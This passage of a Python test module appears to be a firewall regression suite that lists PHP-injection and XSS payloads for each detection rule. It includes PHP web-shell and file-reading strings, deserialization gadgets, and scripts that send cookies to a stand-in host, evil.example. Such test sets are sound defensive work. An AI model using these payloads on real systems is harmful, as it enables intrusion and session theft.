"""Blind positive regression tests for the PHP-injection and XSS detection titles (CRS 3.3.4 request rules at
paranoia levels 1-2, plus the request-rule titles CRS 4.x added), written as a tenth rule author would write
them from the titles alone, with benign requests that carry the same words innocently.

Angle: for each detection title, the canonical attack it names, then one test per alternative of the title's
family (every keyword, function, operator, tag, wrapper, directive, file extension or dialect this author
knows, favouring the less famous ones other authors forget: ssh2.* and rar:// wrappers, enum and Laravel
serialized objects, __halt_compiler and wp_remote_* names, vmlframe, <?import implementation>, meta charset,
applet, UTF-7, US-ASCII 0xBC/0xBE tags, Hieroglyphy, template-literal calls), then the variants a rule must
still catch: casing, whitespace and comment substitutes, concatenation, URL and double-URL encoding, HTML
entities and JSON unicode escapes, and the shortest probing forms.

Families and sub-families (one sub-family per title; the IE-filter titles carry their rule id):
- php: php-open-tag, php-script-file-upload, php-configuration-directive, php-variables, php-io-stream,
  php-wrapper-scheme, php-high-risk-function-name, php-high-risk-function-call, php-serialized-object-injection,
  php-variable-function-call-933180, php-variable-function-call-933210, php-medium-risk-function-name.
- xss: xss-libinjection, xss-script-tag-vector, xss-event-handler-vector, xss-attribute-vector,
  xss-javascript-uri-vector, noscript-html-injection, noscript-attribute-injection, node-validator-blacklist,
  ie-xss-filters-941190 ... ie-xss-filters-941300, us-ascii-malformed-encoding-xss, utf7-encoding-ie-xss,
  jsfuck-hieroglyphy-obfuscation, javascript-global-variable, xss-libinjection-pl2, disallowed-html-attributes,
  html-tag-handler, ie-xss-filters-941330, ie-xss-filters-941340, angularjs-template-injection,
  javascript-method, xss-function-without-parentheses.

Placements: every payload is sent twice. Once to our real routes, rotating over the query of /api/users, the
admin search form (with csrf_token), a JSON body of /api/users (plain, and with JSON unicode escapes), a cookie,
the User-Agent, the Referer, another header, a parameter name, an XML body, a multipart field or filename, and
the URL path. Once the way a WAF's regression suite sends it ("rs-" placements): to paths that are not our
routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) with arbitrary parameter names,
as a query string, a form body, a JSON or XML body, a raw form-typed body that is not key=value, or in the
User-Agent, Referer, a custom header or a cookie. The upload title goes to multipart filenames and the
X-Filename / X-File-Name headers; the PL2 libinjection title to the URL path and the Referer; payloads that are
already percent-encoded bytes (0xBC/0xBE tags, bitwise-not and XOR PHP callees, PHP-CGI arguments) go raw into
a query string, a form body, a raw body or a cookie.

Authorship and independence: written for this repository from general knowledge of PHP injection and XSS and
from the detection titles alone; no rule, ruleset regression test, other blind set or public payload list was
read. Measured once, through the real stack, on unchanged code; the payloads were not changed after seeing the
results. Deterministic: no clock, no randomness.
"""

from __future__ import annotations

import json
import re
import urllib.parse
from collections.abc import Generator, Iterator
from dataclasses import dataclass
from typing import Any
from xml.sax.saxutils import escape as xml_escape

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import bio_request, links_and_prose, prose_request, slack_message
from .records import numbered, print_records, slack_escape

NAME = "ninetyeighth"


@dataclass(frozen=True)
class P:
    """A payload; `pre` when it is already percent-encoded bytes (sent raw), `real`/`rs` to pin its placements."""

    text: str
    pre: bool = False
    real: str | None = None
    rs: str | None = None


Item = str | P

# ---------------------------------------------------------------------------------------------------------- PHP
OPEN_TAG: list[Item] = [
    "<?php system($_GET['c']); ?>",
    "<?=`id`?>",
    "<? passthru(\"id\"); ?>",
    "<?PhP eval($_POST[0]);",
    "<?php",
    "<script language=\"php\">echo shell_exec('id');</script>",
    "<script language=php>phpinfo()</script>",
    "<%= system(\"id\") %>",
    "?><?php echo 1337;",
    "%3C%3Fphp%20phpinfo()%3B%3F%3E",
    "<?php\n@readfile('/etc/passwd');",
    "GIF89a<?php system($_REQUEST[1]);?>",
    "<?=\t$_GET[0]?>",
]

UPLOAD: list[Item] = [
    "shell.php",
    "cmd.php5",
    "x.phtml",
    "backdoor.php3",
    "a.php4",
    "b.php7",
    "source.phps",
    "d.pht",
    "e.phar",
    "avatar.jpg.php",
    "image.PhP",
    "shell.php.",
    "x.php%00.jpg",
    "x.php;.jpg",
]

CONFIG: list[Item] = [
    "allow_url_include=On",
    "auto_prepend_file=php://input",
    P("-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", pre=True, real="raw-query",
      rs="rs-raw-query"),
    "-d allow_url_include=1 -d auto_prepend_file=php://input",
    "auto_append_file=/etc/passwd",
    "disable_functions=",
    "open_basedir=/",
    "safe_mode=Off",
    "suhosin.simulation=1",
    "register_globals = on",
    "allow_url_fopen=1",
    "enable_dl=On",
    "error_log=/var/www/html/shell.php",
    "php_value auto_prepend_file \"/tmp/sess_abc\"",
]

VARIABLES: list[Item] = [
    "$_GET['cmd']",
    "$_POST[x]",
    "$_COOKIE",
    "$_REQUEST[\"a\"]",
    "$_SERVER['HTTP_USER_AGENT']",
    "$_FILES['f']['tmp_name']",
    "$_ENV['PATH']",
    "$_SESSION['admin']=1",
    "$GLOBALS",
    "$HTTP_RAW_POST_DATA",
    "$HTTP_GET_VARS['x']",
    "$HTTP_POST_FILES",
    "$http_response_header",
    "$php_errormsg",
    "%24_SERVER%5B'DOCUMENT_ROOT'%5D",
]

IO_STREAM: list[Item] = [
    "php://input",
    "php://stdin",
    "php://stdout",
    "php://stderr",
    "php://output",
    "php://fd/0",
    "php://memory",
    "php://temp/maxmemory:1048576",
    "php://filter/read=convert.base64-encode/resource=config.php",
    "PHP://INPUT",
    "php:%2F%2Ffilter/resource=/etc/passwd",
    "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode/resource=index.php",
    "pHp://StdIn",
]

WRAPPER: list[Item] = [
    "compress.zlib:///etc/passwd",
    "compress.bzip2://uploads/a.bz2",
    "zlib:///etc/passwd",
    "zip://uploads/avatar.zip#shell.php",
    "phar://uploads/avatar.jpg/x.php",
    "PHAR://./uploads/x.gif",
    "glob:///var/www/html/*.php",
    "expect://id",
    "ssh2.shell://user:pw@example.com:22/xterm",
    "ssh2.exec://user:pw@example.com:22/usr/bin/id",
    "ssh2.tunnel://user:pw@example.com:22/127.0.0.1:6379",
    "ssh2.sftp://user:pw@example.com:22/etc/passwd",
    "rar://uploads/a.rar#shell.php",
    "ogg://uploads/sound.ogg",
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8+",
]

HIGH_NAME: list[Item] = [
    "shell_exec",
    "pcntl_exec",
    "__halt_compiler",
    "bzdecompress",
    "get_defined_functions",
    "pfsockopen",
    "zlib_decode",
    "sys_get_temp_dir",
    "posix_uname",
    "call_user_method_array",
    "wp_remote_post",
    "ReflectionFunction",
    "convert_uudecode",
    "STR_ROT13",
]

HIGH_CALL: list[Item] = [
    "system('id')",
    "exec(\"whoami\")",
    "passthru ('cat /etc/passwd')",
    "popen(\"id\", \"r\")",
    "proc_open('sh', [], $p)",
    "pcntl_exec('/bin/sh')",
    "assert('phpinfo()')",
    "phpinfo()",
    "highlight_file('index.php')",
    "show_source(__FILE__)",
    "SyStEm(\"uname -a\")",
    "exec/**/(\"id\")",
    "@passthru\t(\"id\")",
    "system\n('ls')",
    "fpassthru(fopen('/etc/passwd','r'))",
]

SERIAL: list[Item] = [
    "O:8:\"stdClass\":0:{}",
    "O:4:\"User\":1:{s:7:\"isAdmin\";b:1;}",
    "O:+4:\"Evil\":0:{}",
    "a:1:{i:0;O:7:\"Exploit\":0:{}}",
    "C:11:\"ArrayObject\":21:{x:i:0;a:0:{};m:a:0:{}}",
    P("O:40:\"Illuminate\\Broadcasting\\PendingBroadcast\":1:{s:9:\"\x00*\x00events\";"
      "O:15:\"Faker\\Generator\":0:{}}", real="json", rs="rs-query"),
    "O:1:\"A\":0:{}",
    "E:11:\"Suit:Hearts\";",
    "O:21:\"JDatabaseDriverMysqli\":0:{}",
    "a:2:{s:4:\"user\";s:5:\"admin\";s:4:\"role\";O:4:\"Role\":0:{}}",
    "O:8:%22stdClass%22:0:%7B%7D",
    P("O:9:\"Exception\":1:{s:10:\"\x00*\x00message\";s:1:\"x\";}", real="form", rs="rs-json"),
    "x|O:6:\"Logger\":1:{s:4:\"file\";s:9:\"/tmp/x.php\";}",
]

VARFUNC: list[Item] = [
    "$a()",
    "$f('id')",
    "$_GET['f']($_GET['a'])",
    "$_POST[0]($_POST[1])",
    "${'_GET'}['x']()",
    "$$name()",
    "$func /**/ (\"id\")",
    "$cb\t(\"whoami\")",
    "$obj->$m()",
    "$a['b']('c')",
    "$_=\"assert\";$_($_POST[1]);",
    "$GLOBALS['f']('id')",
    "$x{0}('id')",
]

VARFUNC_STR: list[Item] = [
    "(\"system\")(\"id\")",
    "('sys'.'tem')('id')",
    "\"exec\"(\"whoami\")",
    "'passthru'('id')",
    "(chr(115).chr(121).chr(115).chr(116).chr(101).chr(109))('id')",
    "(\"\\x73\\x79\\x73\\x74\\x65\\x6d\")(\"id\")",
    "(str_rot13('flfgrz'))('id')",
    "['Foo','bar']()",
    "(base64_decode('c3lzdGVt'))('id')",
    "(system)('id')",
    "(\"sy\".\"st\".\"em\") (\"ls\")",
    P("(~%8C%86%8C%8B%9A%92)(~%96%9B);", pre=True),
    P("(\"%13%19%13%14%05%0d\"^\"%60%60%60%60%60%60\")(\"id\");", pre=True),
    "[new Exploit,'run']()",
]

MEDIUM_NAME: list[Item] = [
    "curl_exec",
    "curl_multi_exec",
    "ftp_exec",
    "ini_set",
    "ini_restore",
    "mb_ereg_replace",
    "move_uploaded_file",
    "parse_ini_file",
    "posix_kill",
    "posix_setuid",
    "putenv",
    "symlink",
    "apache_setenv",
    "stream_socket_client",
]

# ---------------------------------------------------------------------------------------------------------- XSS
LIBINJECTION: list[Item] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "\"><svg/onload=confirm(document.domain)>",
    "'><iframe src=javascript:alert(1)>",
    "<body onpageshow=alert(1)>",
    "<details open ontoggle=print()>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<x onclick=alert(1)>click",
    "<IMG SRC=x OnErRoR=prompt(1)>",
    "%3Csvg%20onload%3Dalert(1)%3E",
    "<input autofocus onfocus=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
]

SCRIPT_TAG: list[Item] = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<SCRIPT>",
    "<script/src=data:,alert(1)>",
    "<script\n>alert(1)</script>",
    "<script type=\"text/javascript\">fetch('//evil.example/?c='+document.cookie)</script>",
    "<ScRiPt >prompt(1)</ScRiPt>",
    "<<script>alert(1);//<</script>",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "<script\t>confirm`1`</script>",
    "<svg><script>alert(1)</script>",
    "<script async src=//x.example/a.js>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]

EVENT_HANDLER: list[Item] = [
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "x onerror=alert(1)",
    "<video><source onerror=\"alert(1)\">",
    "<div style=\"animation-name:x\" onanimationstart=alert(1)>",
    "<body onhashchange=alert(1)>",
    "<x onpointerenter=alert(1)>",
    "<marquee onstart=alert(1)>",
    "/onerror=alert(1)",
    "\"onwheel=alert(1)//",
    "<x/onauxclick=alert(1)>",
    "<body onbeforeprint=alert(1)>",
    "<img src=x onerror\t=\talert(1)>",
    "<div ontransitionend=alert(1) style=transition:1s>",
]

ATTRIBUTE: list[Item] = [
    "<a xlink:href=\"javascript:alert(1)\">",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
    "<html xmlns=\"http://www.w3.org/1999/xhtml\">",
    "<iframe src=\"data:text/html,<script>alert(1)</script>\">",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<form><button formaction=javascript:alert(1)>x",
    "<input pattern=\"^x\" oninvalid=alert(1) required>",
    "<!ENTITY xxe SYSTEM \"file:///etc/passwd\">",
    "<!ENTITY % p PUBLIC \"x\" \"http://evil.example/x.dtd\">",
    "@import \"//evil.example/x.css\";",
    "<object data=\"x;base64,PHNjcmlwdD4=\">",
    "<math xlink:href=javascript:alert(1)>x</math>",
    "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
]

JS_URI: list[Item] = [
    "<div style=\"background:url(javascript:alert(1))\">",
    "style=background-image:url(javascript:alert(1))",
    "<div style=\"width:1px;background:url('javascript:alert(1)')\">",
    "style=list-style-image:url(javascript:alert(1))",
    "style=\"color:red;background:url(javascript:alert(1))\"",
    "STYLE=BACKGROUND:URL(JAVASCRIPT:alert(1))",
    "style=cursor:url(javascript:alert(1)),auto",
    "style=\"border-image:url(javascript:alert(1))\"",
    "style=content:url(javascript:alert(1))",
    "style%3Dbackground%3Aurl(javascript%3Aalert(1))",
    "<a href=javascript:alert(document.cookie)>x</a>",
    "<td background=\"javascript:alert(1)\">",
]

NOSCRIPT_HTML: list[Item] = [
    "<iframe src=//evil.example>",
    "<form action=//evil.example><input type=submit>",
    "<object data=//evil.example/x.swf>",
    "<embed src=//evil.example/x.swf>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<frameset onload=alert(1)>",
    "<applet code=x>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<link rel=import href=//evil.example>",
    "<base href=//evil.example/>",
    "<style>*{x:expression(alert(1))}</style>",
    "<svg/onload=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<xss id=x tabindex=1 onfocus=alert(1)>",
]

NOSCRIPT_ATTR: list[Item] = [
    "javascript:alert(1)",
    "javascript:eval(name)",
    "JaVaScRiPt:alert(document.domain)",
    "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "data:text/javascript;charset=utf-8,alert(1)",
    "@import 'http://evil.example/x.css';",
    "@\\69mport url(//evil.example/x.css);",
    "-moz-binding:url(//evil.example/x.xml#xss)",
    "javascript:\\u0061lert(1)",
    "javascript:location=name",
]

NODE_VALIDATOR: list[Item] = [
    "'+document.cookie+'",
    "\";document.write('<img src=//evil.example/?'+document.cookie+'>');//",
    "this.parentNode.innerHTML='x'",
    "x.innerHTML=location.hash",
    "window.location='//evil.example/?'+document.cookie",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "--><svg onload=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "-moz-binding:url(x)",
    "DOCUMENT.COOKIE",
    "window.location.href",
    "document.body.parentNode",
]

IE_941190: list[Item] = [
    "<style>@import'//evil.example/x.css';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<STYLE>li{list-style-image:url(\"javascript:alert(1)\");}</STYLE>",
    "<style>@im\\port'\\ja\\vasc\\ript:alert(1)';</style>",
    "<style>*{x:expression(alert(1))}</style>",
    "<style type=\"text/css\">a{behavior:url(x.htc)}</style>",
    "<style>@\\import url(//evil.example)</style>",
    "<style >body{color:expression(alert(1))}",
    "<style>.x{width:e\\xpression(alert(1))}</style>",
    "<style>div{background-image:url(&#1;javascript:alert(1))}</style>",
    "<style>@import url(&#x6a;avascript:alert(1));</style>",
]

IE_941200: list[Item] = [
    "<v:vmlframe src=\"//evil.example/x.vml#xss\">",
    "<vmlframe src=foo.vml>",
    "<v:vmlframe  src=\"javascript:alert(1)\">",
    "<x:vmlframe src=//evil.example>",
    "<v:vmlframe/src=x>",
    "<V:VMLFRAME SRC=x.vml#a>",
    "<?xml:namespace prefix=v ns=\"urn:schemas-microsoft-com:vml\"><v:vmlframe src=//x>",
    "<v:rect><v:fill><v:vmlframe src=\"x\">",
    "<vmlframe+src=x>",
    "<v:vmlframe src = \"x\">",
]

IE_941210: list[Item] = [
    "&#106;avascript:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "java&#x0A;script:alert(1)",
    "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)",
    "javas&#99;ript:alert(1)",
    "j&#97;v&#97;script&#58;alert(1)",
    "java\tscript:alert(1)",
    "jav&#0000097;script:alert(1)",
    "<a href=\"&#x6a;avascript&colon;alert(1)\">x</a>",
    "javascript&#x3A;alert(1)",
    "JaVaScRiPt&#58;prompt(1)",
    "ja&#x0D;vascript:alert(1)",
]

IE_941220: list[Item] = [
    "vbscript:msgbox(1)",
    "&#118;bscript:MsgBox(\"x\")",
    "vbs&#99;ript:alert(1)",
    "VBScript:Execute(\"MsgBox 1\")",
    "vb&#x09;script:msgbox(1)",
    "<a href=\"vbscript:msgbox(document.cookie)\">x</a>",
    "<img src=\"vbscript:msgbox('xss')\">",
    "&#x76;&#x62;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3a;msgbox(1)",
    "vbscript&#58;msgbox(1)",
    "VbScRiPt:MsgBox(1)",
]

IE_941230: list[Item] = [
    "<embed src=//evil.example/x.swf>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2Zz4=\" type=\"image/svg+xml\">",
    "<embed type=\"text/html\" src=\"javascript:alert(1)\">",
    "<embed/src=x.swf>",
    "<embed+src=//x>",
    "<embed allowscriptaccess=always src=//evil.example/a.swf>",
    "<EmBeD sRc=x.svg>",
    "<embed\tsrc=\"//evil.example\">",
    "<embed code=x type=application/x-shockwave-flash>",
    "<embed src=\"javascript:alert(1)\">",
]

IE_941240: list[Item] = [
    "<?import namespace=\"t\" implementation=\"#default#time2\">",
    "<import implementation=\"x.htc\">",
    "<?IMPORT implementation=#default#VML>",
    "<?import namespace=x implementation=\"//evil.example/x.htc\">",
    "<?import+implementation=x>",
    "<html><?xml:namespace prefix=\"t\" ns=\"urn:schemas-microsoft-com:time\"><?import namespace=\"t\" "
    "implementation=\"#default#time2\">",
    "<import/implementation=x>",
    "<?import namespace = \"v\" implementation = \"#default#VML\" ?>",
    "<?ImPoRt implementation='//evil.example/b.htc'>",
]

IE_941250: list[Item] = [
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"USERID=<SCRIPT>alert(1)</SCRIPT>\">",
    "<meta http-equiv=\"content-type\" content=\"text/html;charset=utf-7\">",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src *\">",
    "<meta/http-equiv=refresh content=0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg>",
    "<meta http-equiv=&#114;efresh content=0;url=//x>",
    "<meta http-equiv='Refresh' content='1'>",
    "<meta name=x http-equiv=\"set-cookie\" content=\"a=b\">",
]

IE_941260: list[Item] = [
    "<meta charset=\"UTF-7\">",
    "<meta charset=x-mac-farsi>",
    "<META CHARSET=\"ISO-2022-JP\">",
    "<meta content=\"text/html; charset=UTF-7\">",
    "<meta/charset=utf-16be>",
    "<meta charset = \"windows-1252\">",
    "<meta+charset=utf-7>",
    "<meta name=x charset=utf-7>",
]

IE_941270: list[Item] = [
    "<link rel=\"stylesheet\" href=\"javascript:alert(1)\">",
    "<link rel=import href=//evil.example/x.html>",
    "<LINK REL=\"stylesheet\" HREF=\"http://evil.example/xss.css\">",
    "<link rel=preload href=//evil.example/a.js as=script>",
    "<link/href=x rel=stylesheet>",
    "<link rel=prefetch href=//evil.example/steal?c=1>",
    "<link rel=dns-prefetch href=//exfil.evil.example>",
    "<link itemprop=x href=javascript:alert(1)>",
    "<link\thref=//evil.example/x.css>",
]

IE_941280: list[Item] = [
    "<base href=\"//evil.example/\">",
    "<BASE HREF=\"javascript:alert(1);//\">",
    "<base href=http://evil.example/js/>",
    "<base/href=//x>",
    "<base target=_blank href=//evil.example>",
    "<base\nhref=//evil.example/>",
    "<BaSe HrEf=//a.example>",
    "<base href = \"//evil.example\">",
]

IE_941290: list[Item] = [
    "<applet code=\"Exploit.class\" codebase=\"http://evil.example/\">",
    "<APPLET>",
    "<applet/code=x>",
    "<applet archive=//evil.example/x.jar code=A>",
    "<applet+code=x>",
    "<applet code=\"javascript:confirm(1)\">",
    "<ApPlEt>",
    "<applet\tcode=x>",
    "<applet object=x.ser>",
]

IE_941300: list[Item] = [
    "<object data=\"javascript:alert(1)\">",
    "<object type=\"text/x-scriptlet\" data=\"//evil.example/x.sct\">",
    "<OBJECT CLASSID=\"clsid:333C7BC4-460F-11D0-BC04-0080C7055A83\">",
    "<object codetype=application/java code=x.class>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<object/data=//evil.example/x.swf>",
    "<object type=application/x-shockwave-flash data=x.swf>",
    "<object code=x.class>",
    "<ObJeCt DaTa=x.svg>",
    "<object\ttype=\"text/html\" data=\"//evil.example\">",
]

US_ASCII: list[Item] = [
    P("%BCscript%BEalert(1)%BC/script%BE", pre=True),
    P("%BCscript%BE", pre=True),
    P("%BCimg%20src=x%20onerror=alert(1)%BE", pre=True),
    P("%3Cscript%BE", pre=True),
    P("%BCsvg%20onload=alert(1)%3E", pre=True),
    P("%BCiframe%20src=javascript:alert(1)%BE", pre=True),
    P("%bcscript%bealert(document.cookie)%bc/script%be", pre=True),
    "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
    P("%C2%BCscript%C2%BEalert(1)%C2%BC/script%C2%BE", pre=True),
    P("%BCbody%20onload=alert(1)%BE", pre=True),
]

UTF7: list[Item] = [
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "+ADw-img src=x onerror=alert(1)+AD4-",
    "+ADw-svg onload+AD0-alert(1)+AD4-",
    "+ACI-+AD4-+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "+ADw-script+AD4-",
    "+ADwAcwBjAHIAaQBwAHQAPg-alert(1)",
    "+ADw-iframe src+AD0-javascript:alert(1)+AD4-",
    "+ADw-SCRIPT+AD4-alert(document.cookie)+ADw-/SCRIPT+AD4-",
    "+ADwAaQBtAGcAIABzAHIAYwA9AHgAIABvAG4AZQByAHIAbwByAD0AYQBsAGUAcgB0ACgAMQApAD4-",
    "x+ACI- onmouseover+AD0AIg-alert(1)",
]

JSFUCK: list[Item] = [
    "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]",
    "(![]+[])[+!+[]]",
    "[]+!![]",
    "+!+[]",
    "!+[]+!+[]",
    "(+{}+[])[+!![]]",
    "([]+{})[!+[]+!+[]]",
    "[][[]]+[]",
    "(!![]+[])[+[]]",
    "[+!+[]]+[+[]]",
    "$=~[];$={___:++$,$$$$:(![]+\"\")[$]}",
    "(+(+!+[]+(!+[]+[])[!+[]+!+[]+!+[]]+[+!+[]]+[+[]]+[+[]])+[])[!+[]+!+[]]",
]

JS_GLOBAL: list[Item] = [
    "window[\"alert\"](1)",
    "self['al'+'ert'](1)",
    "top[\"ale\"+\"rt\"](document.cookie)",
    "parent['eval']('alert(1)')",
    "frames[\"alert\"](1)",
    "globalThis[\"alert\"](1)",
    "this[\"alert\"](1)",
    "window/**/['alert'](1)",
    "self [ 'prompt' ] (1)",
    "content['alert'](1)",
    "document['location']='//evil.example'",
    "window[atob('YWxlcnQ=')](1)",
    "top[/al/.source+/ert/.source](1)",
    "window\n[\"confirm\"](1)",
]

LIBINJECTION_PL2: list[Item] = [
    "<script>alert(1)</script>",
    "\"><svg onload=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "\"><img src onerror=prompt(1)>",
    "<a href=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    "<marquee onstart=alert(1)>",
    "<svg><animate onbegin=alert(1)>",
]

DISALLOWED_ATTR: list[Item] = [
    "\" style=\"position:fixed;top:0;left:0;width:100%;height:100%\" x=\"",
    "<a href=//evil.example>click</a>",
    "<div style=background:red>",
    "\" src=\"//evil.example/x.js",
    "' href='//evil.example",
    "<img src=x>",
    "\" style=animation-name:rotation onanimationstart=alert(1) x=\"",
    "<p style=\"font-size:100px\">",
    "style =x:expression(alert(1))",
    "<img dynsrc=\"javascript:alert(1)\">",
    "<img lowsrc=\"javascript:alert(1)\">",
    "<div datasrc=#x datafld=y>",
    "<bgsound src=javascript:alert(1)>",
]

TAG_HANDLER: list[Item] = [
    "<a href=x>",
    "<abbr title=x>",
    "<b>pwned</b>",
    "<blink>x</blink>",
    "<bgsound src=x>",
    "<marquee>x</marquee>",
    "<xmp>",
    "<listing>",
    "<plaintext>",
    "<keygen autofocus>",
    "<frame src=x>",
    "<layer src=x>",
    "<ilayer>",
    "<h1>pwned</h1>",
]

IE_941330: list[Item] = [
    "\";location='javascript:alert(1)';//",
    "'-(location='//evil.example')-'",
    "\";document.location=\"//evil.example\";\"",
    "'+(name='x')+'",
    "\"+{valueOf:location=name}+\"",
    "';onerror=alert;throw 1//",
    "\";\\u006c\\u006f\\u0063\\u0061\\u0074\\u0069\\u006f\\u006e='javascript:alert(1)'//",
    "' ;window.name='x'",
    "\"};location.hash=\"x",
    "\" ;top.location='//evil.example'",
]

IE_941340: list[Item] = [
    "\";document.domain=\"x",
    "\";a.b=c;//",
    "';window.location.href='//evil.example';//",
    "\"};document.body.innerHTML=\"x\";//",
    "'|document.title='pwned'|'",
    "\" ;this.src='//evil.example/?c='+document.cookie;\"",
    "';x.y=1;'",
    "\"*self.opener.location=1*\"",
    "\\\";document.cookie=\\\"a=b",
    "'||top.document.body.style.display='none'||'",
]

ANGULAR: list[Item] = [
    "{{constructor.constructor('alert(1)')()}}",
    "{{7*7}}",
    "{{$on.constructor('alert(1)')()}}",
    "{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)')}}",
    "{{[].pop.constructor('alert(1)')()}}",
    "{{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join;$eval('x=alert(1)');}}",
    "{{$eval.constructor('alert(1)')()}}",
    "{{toString.constructor.prototype.toString=toString.constructor.prototype.call;"
    "[\"a\",\"alert(1)\"].sort(toString.constructor)}}",
    "{{ 1337 * 1337 }}",
    "{{$new.constructor('alert(1)')()}}",
    "<div ng-app ng-csp>{{$event.view.alert(1)}}</div>",
    "{{a=toString().constructor.prototype;a.charAt=a.trim;$eval('a,alert(1),a')}}",
]

JS_METHOD: list[Item] = [
    "eval(atob('YWxlcnQoMSk='))",
    "setTimeout('alert(1)',0)",
    "setInterval(\"alert(1)\")",
    "new Function('alert(1)')()",
    "alert(1)",
    "prompt(document.domain)",
    "confirm(1)",
    "atob(\"YWxlcnQ=\")",
    "btoa(document.cookie)",
    "eval (name)",
    "window.setTimeout\t('alert(1)')",
    "print()",
    "String.fromCharCode(88,83,83)",
]

NO_PARENS: list[Item] = [
    "alert`1`",
    "onerror=alert;throw 1",
    "setTimeout`alert\\x281\\x29`",
    "throw onerror=alert,1",
    "location='javascript:alert%281%29'",
    "[1].find(alert)",
    "{onerror=eval}throw'=alert\\x281\\x29'",
    "eval.call`${'alert\\x281\\x29'}`",
    "window.onerror=alert;throw document.cookie",
    "'-alert`1`-'",
    "valueOf=alert;window+''",
    "toString=alert;window+''",
]

# (rule, sub-family, category, payloads, placement mode)
TITLES: list[tuple[int, str, str, list[Item], str]] = [
    (933100, "php-open-tag", "php", OPEN_TAG, "default"),
    (933110, "php-script-file-upload", "php", UPLOAD, "upload"),
    (933120, "php-configuration-directive", "php", CONFIG, "default"),
    (933130, "php-variables", "php", VARIABLES, "default"),
    (933140, "php-io-stream", "php", IO_STREAM, "default"),
    (933200, "php-wrapper-scheme", "php", WRAPPER, "default"),
    (933150, "php-high-risk-function-name", "php", HIGH_NAME, "default"),
    (933160, "php-high-risk-function-call", "php", HIGH_CALL, "default"),
    (933170, "php-serialized-object-injection", "php", SERIAL, "default"),
    (933180, "php-variable-function-call-933180", "php", VARFUNC, "default"),
    (933210, "php-variable-function-call-933210", "php", VARFUNC_STR, "default"),
    (933151, "php-medium-risk-function-name", "php", MEDIUM_NAME, "default"),
    (941100, "xss-libinjection", "xss", LIBINJECTION, "default"),
    (941110, "xss-script-tag-vector", "xss", SCRIPT_TAG, "default"),
    (941120, "xss-event-handler-vector", "xss", EVENT_HANDLER, "default"),
    (941130, "xss-attribute-vector", "xss", ATTRIBUTE, "default"),
    (941140, "xss-javascript-uri-vector", "xss", JS_URI, "default"),
    (941160, "noscript-html-injection", "xss", NOSCRIPT_HTML, "default"),
    (941170, "noscript-attribute-injection", "xss", NOSCRIPT_ATTR, "default"),
    (941180, "node-validator-blacklist", "xss", NODE_VALIDATOR, "default"),
    (941190, "ie-xss-filters-941190", "xss", IE_941190, "default"),
    (941200, "ie-xss-filters-941200", "xss", IE_941200, "default"),
    (941210, "ie-xss-filters-941210", "xss", IE_941210, "default"),
    (941220, "ie-xss-filters-941220", "xss", IE_941220, "default"),
    (941230, "ie-xss-filters-941230", "xss", IE_941230, "default"),
    (941240, "ie-xss-filters-941240", "xss", IE_941240, "default"),
    (941250, "ie-xss-filters-941250", "xss", IE_941250, "default"),
    (941260, "ie-xss-filters-941260", "xss", IE_941260, "default"),
    (941270, "ie-xss-filters-941270", "xss", IE_941270, "default"),
    (941280, "ie-xss-filters-941280", "xss", IE_941280, "default"),
    (941290, "ie-xss-filters-941290", "xss", IE_941290, "default"),
    (941300, "ie-xss-filters-941300", "xss", IE_941300, "default"),
    (941310, "us-ascii-malformed-encoding-xss", "xss", US_ASCII, "default"),
    (941350, "utf7-encoding-ie-xss", "xss", UTF7, "default"),
    (941360, "jsfuck-hieroglyphy-obfuscation", "xss", JSFUCK, "default"),
    (941370, "javascript-global-variable", "xss", JS_GLOBAL, "default"),
